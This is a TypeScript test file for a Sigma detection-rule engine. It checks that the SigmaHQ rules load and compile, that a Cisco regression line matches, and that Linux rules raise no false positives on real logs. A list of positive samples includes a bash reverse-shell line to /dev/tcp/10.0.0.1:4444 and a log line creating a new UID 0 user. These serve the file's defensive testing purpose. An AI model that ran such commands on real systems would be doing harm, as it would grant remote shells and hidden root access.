/**
 * Third-party rules from ../shared/data: all 100 SigmaHQ rules load and compile (a refusal would
 * be listed with its reason; there are none); the SigmaHQ regression line for
 * cisco_cli_dot1x_disabled matches its rule exactly once when it goes through the syslog codec as
 * the gateway reads it; none of the Linux rules fires on loghub's 2,000 real Linux log lines; and
 * every example of the sigma-specification repository loads.
 */
import assert from 'node:assert/strict';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import type { Event } from '../../../protocols/event/schema.ts';
import {
  compileRuleSet,
  loadSigma,
  mergeLoadResults,
  type SigmaLoadResult,
} from '../../../protocols/sigma/index.ts';
import { parseSyslog, syslogToEvent } from '../../../protocols/syslog/index.ts';
import { sharedData } from '../../support/env.ts';

function yamlFiles(dir: string): string[] {
  return readdirSync(dir)
    .flatMap((f) => {
      const p = path.join(dir, f);
      return statSync(p).isDirectory() ? yamlFiles(p) : /\.ya?ml$/.test(f) ? [p] : [];
    })
    .sort();
}

function loadDir(dir: string): SigmaLoadResult {
  return mergeLoadResults(
    yamlFiles(dir).map((f) => loadSigma(readFileSync(f, 'utf8'), { source: path.relative(dir, f) })),
  );
}

const NOW = new Date('2026-03-18T00:00:00Z');
let seq = 0;

/** One log line as the gateway makes it an event: parseSyslog, then syslogToEvent (transport file). */
export function lineToEvent(line: string): Event {
  const r = parseSyslog(line, { now: NOW });
  assert.ok(r.ok, `parses: ${line}`);
  seq++;
  return {
    v: 1,
    id: `gw:${seq}`,
    gateway: 'gw',
    seq,
    ...syslogToEvent(r.message, { received: NOW, transport: 'file' }),
  } as Event;
}

test('all SigmaHQ rules in ../shared/data/sigma load and compile', (t) => {
  const dir = sharedData(t, 'sigma');
  if (!dir) return;
  const loaded = mergeLoadResults([
    loadDir(path.join(dir, 'rules')),
    loadDir(path.join(dir, 'rules-compliance')),
  ]);
  assert.deepEqual(loaded.errors, []);
  // The regression folder's info.yml is metadata, not a rule: refused with a typed reason.
  assert.equal(loadDir(path.join(dir, 'regression_data')).errors[0]?.code, 'not_a_rule');
  assert.equal(loaded.rules.length, 100);
  const set = compileRuleSet(loaded.rules);
  assert.deepEqual(set.errors, []);
  assert.equal(set.rules.length, 100);
  t.diagnostic(`loaded ${loaded.rules.length}, compiled ${set.rules.length}, refused ${set.errors.length}`);
  const active = set.rules.filter((r) => r.sources === null || r.sources.size > 0).length;
  t.diagnostic(`active with the default logsource map: ${active} (linux); the rest need a logsource mapping`);
});

test('regression: cisco_cli_dot1x_disabled matches its raw line exactly once', (t) => {
  const ruleFile = sharedData(t, 'sigma', 'rules', 'network', 'cisco', 'aaa', 'cisco_cli_dot1x_disabled.yml');
  const rawFile = sharedData(
    t,
    'sigma',
    'regression_data',
    'rules',
    'cisco',
    'aaa',
    'cisco_cli_dot1x_disabled',
    'ef0ff092-a24a-4fbc-beea-06c08d53e085.raw',
  );
  const info = sharedData(
    t,
    'sigma',
    'regression_data',
    'rules',
    'cisco',
    'aaa',
    'cisco_cli_dot1x_disabled',
    'info.yml',
  );
  if (!ruleFile || !rawFile || !info) return;
  const loaded = loadSigma(readFileSync(ruleFile, 'utf8'));
  assert.deepEqual(loaded.errors, []);
  const set = compileRuleSet(loaded.rules, { logsources: { 'product:cisco': ['syslog'] } });
  const lines = readFileSync(rawFile, 'utf8')
    .split('\n')
    .filter((l) => l.trim() !== '');
  const matches = lines.map(lineToEvent).flatMap((e) => set.match(e));
  assert.equal(matches.length, 1);
  assert.equal(matches[0]!.rule.id, 'ef0ff092-a24a-4fbc-beea-06c08d53e085');
  assert.match(readFileSync(info, 'utf8'), /ef0ff092-a24a-4fbc-beea-06c08d53e085/);
  // Without the cisco logsource mapped, the rule stays inactive on syslog.
  assert.equal(lines.map(lineToEvent).flatMap((e) => compileRuleSet(loaded.rules).match(e)).length, 0);
});

test('false positives: no Linux rule matches any line of loghub Linux_2k.log', (t) => {
  const dir = sharedData(t, 'sigma', 'rules', 'linux');
  const log = sharedData(t, 'syslog', 'loghub', 'Linux_2k.log');
  if (!dir || !log) return;
  const loaded = loadDir(dir);
  assert.deepEqual(loaded.errors, []);
  assert.ok(loaded.rules.length >= 20);
  const set = compileRuleSet(loaded.rules);
  assert.deepEqual(set.errors, []);
  assert.ok(
    set.rules.every((r) => r.sources?.has('syslog')),
    'every linux rule runs on syslog events',
  );
  const lines = readFileSync(log, 'utf8')
    .split('\n')
    .filter((l) => l !== '');
  assert.equal(lines.length, 2000);
  const hits = lines
    .map(lineToEvent)
    .flatMap((e) => set.match(e).map((r) => `${r.rule.title}: ${e.message}`));
  assert.deepEqual(hits, []);
  // ...and the same rules do fire on the lines they are written for (the check could fail).
  const positives = [
    'session opened: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
    'kernel: eth0: entered promiscuous mode',
    'useradd[1337]: new user: name=john, UID=0, GID=0, home=/home/john',
  ];
  for (const line of positives)
    assert.equal(set.match(lineToEvent(`Jun 14 15:16:01 combo ${line}`)).length > 0, true, line);
});

test('every example of the sigma specification loads (rules, correlations, filters)', (t) => {
  const dir = sharedData(t, 'sigma-spec', 'tests');
  if (!dir) return;
  const files = yamlFiles(dir);
  assert.ok(files.length >= 12);
  for (const f of files) {
    const r = loadSigma(readFileSync(f, 'utf8'), { source: f });
    assert.deepEqual(r.errors, [], f);
    assert.equal(r.rules.length + r.correlations.length + r.filters.length, 1, f);
    const kind = f.includes('/correlation/') ? r.correlations : f.includes('/filter/') ? r.filters : r.rules;
    assert.equal(kind.length, 1, `${f} is a ${path.basename(path.dirname(f))}`);
  }
});
